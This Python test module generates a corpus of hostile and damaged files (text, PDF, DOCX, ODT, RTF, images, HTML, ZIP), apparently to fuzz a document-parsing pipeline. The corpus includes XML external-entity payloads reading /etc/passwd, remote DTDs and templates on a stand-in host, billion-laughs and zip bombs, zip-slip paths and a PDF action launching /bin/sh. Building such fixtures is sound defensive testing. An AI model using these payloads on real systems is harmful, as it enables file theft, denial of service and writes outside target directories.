"""More than two hundred malicious, misleading or damaged files, generated and the same in every run."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from tests.sources.odtfile import MEDIA_TYPE as ODT_TYPE
from tests.sources.odtfile import NAMES as ODT_NAMES
from tests.sources.odtfile import odt
from tests.sources.odtfile import package as odt_package
from tests.sources.samples import pdf, scan, word
from tests.sources.wordfile import NAMES, XML, package

SENTENCE = "安全理事会，回顾其第2553(2020)号决议，决定继续积极处理此案。"
MEGABYTE = 1024 * 1024
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))


def hostile_files() -> Iterator[tuple[str, bytes]]:
    """Yield name and bytes of each file; the name states the defect."""
    for kind, make in (
        ("文本", texts),
        ("类型", wrong_types),
        ("PDF", pdfs),
        ("DOCX", words),
        ("ODT", open_documents),
        ("RTF", rich_texts),
        ("图片", pictures),
        ("HTML", pages),
        ("ZIP", zips),
    ):
        for name, data in make():
            yield f"{kind} {name}", data


def truncated(data: bytes, count: int) -> Iterator[tuple[str, bytes]]:
    for part in range(count):
        length = len(data) * part // count
        yield f"截断到 {length} 字节", data[: max(length, 8)]


def mutated(data: bytes, count: int) -> Iterator[tuple[str, bytes]]:
    for seed in range(count):
        chance = random.Random(seed)
        changed = bytearray(data)
        for _ in range(1 + len(data) // 2000 * (seed % 5)):
            at = chance.randrange(len(changed))
            changed[at : at + chance.choice((0, 1, 1, 4))] = chance.randbytes(chance.choice((0, 1, 1, 8)))
        yield f"随机改动 {seed}", bytes(changed)


def texts() -> Iterator[tuple[str, bytes]]:
    for codec in ("utf-7", "utf-32", "shift_jis", "euc_kr", "iso2022_jp", "hz", "cp037", "punycode"):
        yield f"编码 {codec}", SENTENCE.encode(codec, "replace")
    for codec in ("latin-1", "koi8-r", "cp1256", "iso8859_7"):
        yield f"编码 {codec}", bytes(range(0xC0, 0x100)).decode(codec, "replace").encode(codec, "replace") * 20
    for codec in ("utf-8", "gb18030", "big5hkscs", "utf-16"):
        data = ("安全理事會決議，" * 50).encode(codec)
        yield f"{codec} 截断", data[:-1]
        yield f"{codec} 中间坏字节", data[:101] + b"\xff\xfe\x80" + data[101:]
        yield f"{codec} 夹空字符", data[:100] + b"\0" + data[100:]
    for seed in range(8):
        yield f"随机字节 {seed}", random.Random(seed).randbytes(5000)
    yield "空文件", b""
    yield "只有空白", b" \r\n\t" * 100
    yield "只有零宽字符", "\u200b\ufeff\u2060".encode() * 50
    yield "只有标记", b"\xef\xbb\xbf"
    yield "控制字符", bytes(range(1, 32)) * 50
    yield "代理项", "安全\ud800理事会".encode("utf-8", "surrogatepass") * 20
    yield "全是替换符", "\ufffd".encode() * 200
    yield "一行一千万字", ("安全理事会" * 2_000_000).encode()
    yield "两百万空行", b"\n" * 2_000_000 + SENTENCE.encode()
    yield "组合字符堆叠", ("安" + "\u0301" * 5000).encode()
    yield "脚本和模板", f"<script>alert(1)</script>{{{{ 7*7 }}}}{SENTENCE}\u202e".encode()
    yield "括号一百万", ("(" * 1_000_000 + SENTENCE).encode()
    yield "数字一百万", ("第" + "9" * 1_000_000 + "号决议，安全理事会").encode()


def wrong_types() -> Iterator[tuple[str, bytes]]:
    for name, start in (
        ("PNG", b"\x89PNG\r\n\x1a\n"), ("JPEG", b"\xff\xd8\xff\xe0\0\x10JFIF"), ("GIF", b"GIF89a"), ("TIFF", b"II*\0"),
        ("BMP", b"BM\x36\x84\x03\0\0\0"), ("WebP", b"RIFF\x24\0\0\0WEBPVP8 "), ("ICO", b"\0\0\x01\0\x01\0"),
        ("MP3", b"ID3\x03\0\0"), ("MP4", b"\0\0\0\x20ftypisom"), ("WAV", b"RIFF\x24\0\0\0WAVE"), ("OGG", b"OggS\0\x02"),
        ("GZIP", b"\x1f\x8b\x08\0"), ("BZIP2", b"BZh91AY&SY"), ("XZ", b"\xfd7zXZ\0"), ("7z", b"7z\xbc\xaf\x27\x1c"),
        ("RAR", b"Rar!\x1a\x07\x01\0"), ("ELF", b"\x7fELF\x02\x01"), ("EXE", b"MZ\x90\0"), ("WASM", b"\0asm\x01\0"),
        ("CLASS", b"\xca\xfe\xba\xbe\0\0\0\x34"), ("SQLite", b"SQLite format 3\0"), ("PS", b"%!PS-Adobe-3.0\n"),
        ("DjVu", b"AT&TFORM\0\0"), ("DOC", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), ("PYC", b"\xa7\r\r\n\0\0\0\0"),
    ):  # fmt: skip
        yield name, start + random.Random(name).randbytes(2000)
    yield "加密的 Office", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")
    for name, parts in (
        ("XLSX", ("[Content_Types].xml", "xl/workbook.xml")),
        ("PPTX", ("[Content_Types].xml", "ppt/presentation.xml")),
        ("EPUB", ("mimetype", "META-INF/container.xml")),
        ("JAR", ("META-INF/MANIFEST.MF", "A.class")),
    ):
        yield name, zipped(dict.fromkeys(parts, "x"))


def raw_pdf(objects: list[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """Return a PDF of ``objects`` numbered from 1, with a valid cross-reference table."""
    data, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    end = b"trailer <</Size %d %s>>\nstartxref\n%d\n%%%%EOF" % (size, trailer, len(data))
    return bytes(data) + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + end


CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
HELVETICA = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def stream(content: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(content, 9)
    return b"<</Length %d/Filter/FlateDecode%s>>stream\n%s\nendstream" % (len(packed), extra, packed)


def page_with(content: bytes, catalog: bytes = CATALOG, page: bytes = PAGE) -> bytes:
    return raw_pdf([catalog, PAGES, page, stream(content), HELVETICA])


def pdfs() -> Iterator[tuple[str, bytes]]:
    good = pdf("001", "one column")
    yield from truncated(good, 10)
    yield from mutated(good, 20)
    say = b"BT /F 12 Tf 72 720 Td (Security Council) Tj ET\n"
    yield "只有文件头", b"%PDF-1.7\n"
    yield "头前有杂物", b"junk " * 20 + good
    yield "没有页", raw_pdf([CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"])
    yield (
        "页数是谎言",
        raw_pdf([CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", PAGE, stream(say), HELVETICA]),
    )
    yield "页数三千", raw_pdf([CATALOG, b"<</Type/Pages/Kids[%s]/Count 3000>>" % (b"3 0 R " * 3000), PAGE, stream(say)])
    yield "页树成环", raw_pdf([CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])
    yield "引用成环", raw_pdf([CATALOG, b"2 0 R"])
    yield (
        "数组十万层",
        raw_pdf([b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 100_000 + b"]" * 100_000 + b">>", PAGES, PAGE]),
    )
    yield "图形状态十万层", page_with(b"q " * 100_000 + say)
    yield "压缩炸弹", page_with(say + b" " * (150 * MEGABYTE))
    yield "双重压缩炸弹", raw_pdf(
        [CATALOG, PAGES, PAGE, b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream"
         % (len(double := zlib.compress(zlib.compress(b" " * 100 * MEGABYTE, 9), 9)), double), HELVETICA]
    )  # fmt: skip
    yield "五十万个字叠在一处", page_with(b"BT /F 1 Tf 0 0 Td (" + b"A" * 500_000 + b") Tj ET")
    yield (
        "八千个字散在各处",
        page_with(b"".join(b"BT /F 1 Tf %d %d Td (a) Tj ET\n" % (i % 595, i % 842) for i in range(8000))),
    )
    yield "五万条线", page_with(b"0 0 m 595 0 l S\n" * 50_000 + say)
    yield "字号无穷", page_with(b"BT /F 1e38 Tf 1e38 1e38 Td (Security Council adopts) Tj ET")
    yield "页面为零", page_with(say, page=PAGE.replace(b"0 0 595 842", b"0 0 0 0"))
    yield "页面巨大", page_with(say, page=PAGE.replace(b"0 0 595 842", b"-1e9 -1e9 1e9 1e9"))
    yield "打开时运行脚本", page_with(say, CATALOG[:-2] + b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>")
    yield "打开时启动程序", page_with(say, CATALOG[:-2] + b"/OpenAction<</S/Launch/F(/bin/sh)>>>>")
    yield "打开时连网", page_with(say, CATALOG[:-2] + b"/OpenAction<</S/URI/URI(http://192.0.2.1/x)>>>>")
    yield (
        "XFA 表单",
        page_with(say, CATALOG[:-2] + b"/AcroForm<</XFA(<!DOCTYPE x SYSTEM 'file:///etc/passwd'>)/Fields[]>>>>"),
    )
    yield "外部数据流", page_with(say).replace(b"/Filter/FlateDecode", b"/F(/etc/passwd)/Filter/FlateDecode")
    yield "要密码", encrypted_pdf()
    yield "扫描件", scan(pages=3)
    yield "空白页", page_with(b"")
    yield "字体不存在", page_with(b"BT /Nope 12 Tf 72 720 Td <00010002000300040005> Tj ET")
    yield (
        "字体自指",
        raw_pdf([CATALOG, PAGES, PAGE, stream(say), b"<</Type/Font/Subtype/Type0/DescendantFonts[5 0 R]>>"]),
    )
    yield "表单自己包含自己", raw_pdf(
        [CATALOG, PAGES, PAGE.replace(b"/Font<</F 5 0 R>>", b"/XObject<</X 5 0 R>>"), stream(b"/X Do"),
         stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>")]
    )  # fmt: skip
    yield "私有区文字", good.replace(b"/UniGB-UCS2-H", b"/Identity-H   ")
    yield "既是 PDF 又是 ZIP", good + zipped({"a.txt": SENTENCE})
    yield "PDF 接 PDF", good + pdf("002", "one column")[:5000]


def encrypted_pdf() -> bytes:
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    buffer = io.BytesIO()
    canvas = Canvas(buffer, encrypt=StandardEncryption("secret", "owner", strength=128))
    canvas.drawString(72, 720, "Security Council")
    canvas.save()
    return buffer.getvalue()


def zipped(files: dict[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def document(body: str, start: str = XML, more: dict[str, str] | None = None, links: list | None = None) -> bytes:
    main = f"{start}<w:document {NAMES}><w:body>{body}</w:body></w:document>"
    return package({"word/document.xml": main} | (more or {}), links or [])


def says(text: str = SENTENCE) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def repacked(data: bytes, change: dict[str, bytes | None]) -> bytes:
    """Return the package with parts replaced, added or removed (None)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()} | change
    return zipped({name: content for name, content in parts.items() if content is not None})


def words() -> Iterator[tuple[str, bytes]]:
    good = word("001")
    yield from truncated(good, 8)
    yield from mutated(good, 18)
    yield "十亿次大笑", document(says("&l9;"), f'{XML}<!DOCTYPE x [<!ENTITY l0 "哈">{LAUGHS}]>')
    yield "二次膨胀", document(says("&a;" * 20_000), f'{XML}<!DOCTYPE x [<!ENTITY a "{"哈" * 20_000}">]>')
    for target in ("file:///etc/passwd", "http://192.0.2.1/x", "/dev/random", "expect://id"):
        yield f"外部实体 {target}", document(says("&e;"), f'{XML}<!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]>')
    yield "外部 DTD", document(says(), f'{XML}<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">')
    yield "参数实体", document(says(), f'{XML}<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>')
    yield "脚注里的实体", repacked(good, {"word/footnotes.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'})
    yield "带宏", repacked(good, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield "宏文档类型", package({"word/document.xml": f"{XML}<w:document {NAMES}/>"}, [], "document.macroEnabled.main")
    yield "远程模板", document(says(), links=[("attachedTemplate", "http://192.0.2.1/t.dotm", "t")])
    yield "远程图片", document(says(), links=[("hyperlink", "file://192.0.2.1/x", "rX")])
    chunk = {"word/evil.xml": "<script>alert(1)</script>"}
    yield "嵌入网页", document('<w:altChunk r:id="c"/>' + says(), more=chunk, links=[("aFChunk", "evil.xml", "c")])
    for name in ("word/document.xml", "[Content_Types].xml", "_rels/.rels", "word/numbering.xml"):
        yield f"缺 {name}", repacked(good, {name: None})
        yield f"{name} 是图片", repacked(good, {name: b"\x89PNG\r\n\x1a\n" + b"\0" * 50})
        yield f"{name} 是空的", repacked(good, {name: b""})
    yield "XML 炸弹 61 MB", repacked(good, {"word/document.xml": b"<a>" + b" " * (61 * MEGABYTE)})
    yield "图片炸弹 310 MB", repacked(good, {"word/media/a.png": b"\0" * (310 * MEGABYTE)})
    yield "六千个部件", repacked(good, {f"word/p{i}.xml": b"<a/>" for i in range(6000)})
    yield "五万个段落", document("<w:p/>" * 50_000 + says())
    yield "XML 十万层", document("<w:sdt><w:sdtContent>" * 50_000 + says() + "</w:sdtContent></w:sdt>" * 50_000)
    yield "XML 两百层", document("<w:sdt><w:sdtContent>" * 100 + says() + "</w:sdtContent></w:sdt>" * 100)
    table = "<w:tbl><w:tr><w:tc>{}</w:tc><w:tc><w:p/></w:tc></w:tr><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>"
    nested = says()
    for _ in range(60):
        nested = table.format(nested)
    yield "表格套六十层", document(nested)
    yield "一行两万格", document(f"<w:tbl><w:tr>{'<w:tc><w:p/></w:tc>' * 20_000}</w:tr><w:tr/></w:tbl>{says()}")
    styles = f'{XML}<w:styles {NAMES}><w:style w:styleId="A"><w:basedOn w:val="A"/></w:style></w:styles>'
    loop = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>安全理事会，</w:t></w:r></w:p>'
    yield "样式自指", document(loop, more={"word/styles.xml": styles}, links=[("styles", "styles.xml", "")])
    notes = '<w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote>'
    yield (
        "脚注自指",
        document(
            says() + '<w:p><w:r><w:t>段</w:t><w:footnoteReference w:id="1"/></w:r></w:p>',
            more={"word/footnotes.xml": f"{XML}<w:footnotes {NAMES}>{notes}</w:footnotes>"},
            links=[("footnotes", "footnotes.xml", "")],
        ),
    )
    odd = f'<w:p><w:pPr><w:numPr><w:ilvl w:val="99999999999"/><w:numId w:val="-1"/></w:numPr></w:pPr></w:p>{says()}'
    yield "编号越界", document(odd)
    yield "没有文字", document("<w:p/>")
    yield "UTF-16 的 XML", repacked(good, {"word/document.xml": f"<w:document {NAMES}/>".encode("utf-16")})
    yield "坏 UTF-8 的 XML", repacked(good, {"word/document.xml": b"<?xml version='1.0'?><a>\xff\xfe</a>"})
    yield "别的根元素", repacked(good, {"word/document.xml": b"<html><body>hi</body></html>"})
    yield "脚本作文字", document(says("&lt;script&gt;alert(1)&lt;/script&gt;{{ 7*7 }}安全理事会"))


def open_documents() -> Iterator[tuple[str, bytes]]:
    say = f"<text:p>{SENTENCE}</text:p>"
    good = odt(say * 20)
    yield from truncated(good, 8)
    yield from mutated(good, 15)
    yield "十亿次大笑", odt_package({"content.xml": f'<!DOCTYPE x [<!ENTITY l0 "哈">{LAUGHS}]><x a="&l9;">&l9;</x>'})
    yield (
        "外部实体 file:///etc/passwd",
        odt_package({"content.xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}),
    )
    yield "带宏", odt(say, more={"Basic/Standard/Module1.xml": "<x/>"})
    yield "加密", odt(say, more={"META-INF/manifest.xml": "<m><encryption-data/></m>"})
    yield "XML 炸弹 61 MB", odt(say + " " * (61 * MEGABYTE))
    yield "缺 content.xml", odt_package({"meta.xml": "<x/>"})
    yield "空白重复十亿次", odt(f'<text:p>{SENTENCE}<text:s text:c="1000000000"/></text:p>' * 50)
    cell = '<table:table-cell table:number-columns-repeated="1000000"><text:p>x</text:p></table:table-cell>'
    yield (
        "表格行列重复十亿次",
        odt(
            f'<table:table><table:table-row table:number-rows-repeated="1000000">{cell}</table:table-row>' * 2
            + "</table:table>" * 2
        ),
    )
    for name in ("text:list", "text:section", "text:span"):
        opened = f"<{name}>" if name != "text:list" else "<text:list><text:list-item>"
        closed = f"</{name}>" if name != "text:list" else "</text:list-item></text:list>"
        yield f"{name} 两千层", odt(f"<text:p>{opened * 2000}x{closed * 2000}</text:p>{say}")
    yield (
        "样式成环",
        odt(
            '<text:p text:style-name="A">决定</text:p>',
            '<style:style style:name="A" style:family="paragraph" style:parent-style-name="A"/>',
        ),
    )
    yield "列表接自身", odt('<text:list xml:id="a" text:continue-list="a"><text:list-item/></text:list>' + say)
    yield (
        "级别非法",
        odt(
            '<text:list text:style-name="L"><text:list-item text:start-value="-9e9"><text:p>x</text:p></text:list-item>'
            "</text:list>",
            '<text:list-style style:name="L"><text:list-level-style-number text:level="99999999999"/>'
            "</text:list-style>",
        ),
    )
    yield (
        "一万个脚注",
        odt("<text:p>a" + "<text:note><text:note-citation>1</text:note-citation></text:note>" * 9000 + "</text:p>"),
    )
    yield (
        "外部图片和对象",
        odt(
            '<text:p>决定<draw:frame><draw:image xlink:href="http://192.0.2.1/x.png"/>'
            '<draw:object xlink:href="file:///etc/passwd"/></draw:frame></text:p>'
        ),
    )
    yield "一个 XML 的文件", f"<office:document {ODT_NAMES} office:mimetype='{ODT_TYPE}'/>".encode()


def rich_texts() -> Iterator[tuple[str, bytes]]:
    good = rb"{\rtf1\ansi\ansicpg936 " + b"".join(b"\\'%02x" % byte for byte in SENTENCE.encode("gbk")) * 5 + rb"\par}"
    yield from truncated(good, 8)
    yield from mutated(good, 15)
    yield "对象", rb"{\rtf1\ansi{\object\objdata 0105}Hello}"
    yield "分组十万层", rb"{\rtf1 " + b"{" * 100_000 + b"a" + b"}" * 100_000
    yield "只有括号", rb"{\rtf1" + b"}" * 100_000
    yield "一百万个控制字", rb"{\rtf1 a" + rb"\b\b0" * 500_000 + b"}"
    yield "二进制长度是谎言", rb"{\rtf1 a{\pict\bin2147483647 x}b}"
    yield "二进制长度为负", rb"{\rtf1 a{\pict\bin-5 x}b}"
    yield "数字过大", rb"{\rtf1\uc9999999999\u9999999999 a\ansicpg9999999999\f9999999999 b\par c}"
    yield "字体表没有结束", rb"{\rtf1{\fonttbl{\f0\fcharset134"
    yield "一千万个格", rb"{\rtf1\trowd" + rb"\cell" * 1_000_000 + rb"\row a}"
    yield "行没有格", rb"{\rtf1" + rb"\row" * 100_000 + b" a}"
    yield "一万个脚注", rb"{\rtf1 a" + rb"{\footnote b}" * 10_000 + b"}"
    yield "脚注套脚注", rb"{\rtf1 a" + rb"{\footnote b" * 1000 + b"}" * 1001
    yield "域连到文件", rb"{\rtf1{\field{\*\fldinst INCLUDETEXT file:///etc/passwd}{\fldrslt a}}b}"
    yield "外部模板", rb"{\rtf1{\*\template http://192.0.2.1/x.dot}Hello}"
    yield "全是十六进制图片", rb"{\rtf1 a{\pict " + b"ff" * 5_000_000 + b"}}"
    yield "空", rb"{\rtf1}"


def pictures() -> Iterator[tuple[str, bytes]]:
    for form in ("PNG", "JPEG", "TIFF", "GIF", "BMP", "WEBP"):
        buffer = io.BytesIO()
        Image.new("L", (300, 400), 255).save(buffer, form)
        yield from ((f"{form} {name}", data) for name, data in truncated(buffer.getvalue(), 4))
        yield from ((f"{form} {name}", data) for name, data in mutated(buffer.getvalue(), 4))
    buffer = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(buffer, "PNG")
    yield "PNG 四亿像素", buffer.getvalue()
    yield "TIFF 目录成环", b"II*\0\x08\0\0\0" + struct.pack("<H", 0) + struct.pack("<I", 8)


def pages() -> Iterator[tuple[str, bytes]]:
    for name, body in (
        ("十万层", "<div>" * 100_000 + SENTENCE),
        ("两万个未闭合的段落", "<p>安" * 20_000),
        ("三千层表格", "<table><tr><td>" * 3_000 + SENTENCE),
        ("两千个自己的脚注", '<p>安<a href="#a" id="a">[1]</a></p>' * 2_000),
        (
            "互指的脚注",
            '<p id="b">安<sup><a href="#c">1</a></sup></p><p id="c">1 安<sup><a href="#b">1</a></sup></p>' * 500,
        ),
        ("四百层列表", "<ol>" * 400 + "<li>安" * 400),
        ("十万行", "<p>" + "安\n" * 100_000),
        ("五千层粗体", "<b>" * 5_000 + SENTENCE),
        ("一百万个属性", "<p " + "a=1 " * 1_000_000 + ">" + SENTENCE),
        ("外部资源", '<img src="http://192.0.2.1/x"><iframe src="file:///etc/passwd"></iframe>' + SENTENCE),
        ("脚本", f"<script>alert(1)</script><p onclick=x>{SENTENCE}"),
        ("没有文字", "<script>x</script>"),
    ):
        yield name, f"<html><body>{body}".encode()
    yield "外部实体", f'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html>&x;{SENTENCE}'.encode()
    yield "存档没有网页", b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x--\n"
    nested = "".join(
        f"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(2000)
    )
    yield "两千层存档", nested.encode()
    yield "存档编码不明", b"MIME-Version: 1.0\nContent-Type: text/html; charset=x\n\n<p>" + SENTENCE.encode("gb18030")
    yield from truncated(f"<!DOCTYPE html><html><body><p>{SENTENCE}</p>".encode(), 4)


def zips() -> Iterator[tuple[str, bytes]]:
    good = zipped({"决议.txt": SENTENCE, "2594.docx": word("001")})
    yield from truncated(good, 6)
    yield from mutated(good, 12)
    for name in ("../../etc/cron.d/x", "/etc/passwd", "C:\\Windows\\x.txt", "..\\..\\x.txt", "a/../../b.txt"):
        yield f"路径 {name}", zipped({name: SENTENCE, "好.txt": SENTENCE})
    yield "名字带方向符", zipped({"决议\u202etxt.exe": SENTENCE})
    yield "名字带空字符", zipped({"a\nb\x01.txt": SENTENCE})
    yield "名字一万字", zipped({"长" * 10_000: SENTENCE})
    yield "符号链接", special(0o120777)
    yield "设备文件", special(0o020666)
    yield "套在里面的 ZIP", zipped({"内.zip": good})
    yield "炸弹一千倍", zipped({"炸.txt": b"\0" * (45 * MEGABYTE)})
    yield "六十兆一个", zipped({"大.txt": random.Random(1).randbytes(60 * MEGABYTE)}, zipfile.ZIP_STORED)
    yield "五百零一个文件", zipped({f"{i}.txt": "" for i in range(501)})
    yield "两万个文件", zipped({f"{i}.txt": "" for i in range(20_000)})
    yield "重叠的炸弹", overlapping()
    yield "大小是谎言（小）", good.replace(struct.pack("<I", len(SENTENCE.encode())), struct.pack("<I", 3))
    yield "大小是谎言（大）", good.replace(struct.pack("<I", len(SENTENCE.encode())), struct.pack("<I", 2**32 - 2))
    yield "加密标记", good.replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\x01\0")
    yield "压缩方法未知", good.replace(b"\x08\0", b"\x63\0")
    yield "LZMA", zipped({"a.txt": SENTENCE}, zipfile.ZIP_LZMA)
    yield "只有文件夹", zipped({"空/": ""})
    yield "只有系统文件", zipped({"__MACOSX/._a": "x", ".DS_Store": "x"})
    yield "没有文件", b"PK\x05\x06" + b"\0" * 18
    yield "目录是谎言", b"PK\x05\x06" + b"\0" * 4 + b"\xff" * 12 + b"\0\0"
    yield (
        "里面是坏 PDF",
        zipped({"a.pdf": pdf("001", "one column")[:5000], "b.docx": word("001")[:3000], "c.txt": b"\xff\0"}),
    )


def special(mode: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("链接.txt")
        info.create_system, info.external_attr = 3, mode << 16
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def overlapping() -> bytes:
    """Return a ZIP with four hundred entries for one packed file of ten megabytes."""
    data = zipped({"a.txt": SENTENCE.encode() * 120_000})
    at = data.index(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    entry = data[at:end]
    tail = bytearray(data[end:])
    tail[8:16] = struct.pack("<HHI", 400, 400, len(entry) * 400)
    return data[:at] + entry * 400 + bytes(tail)
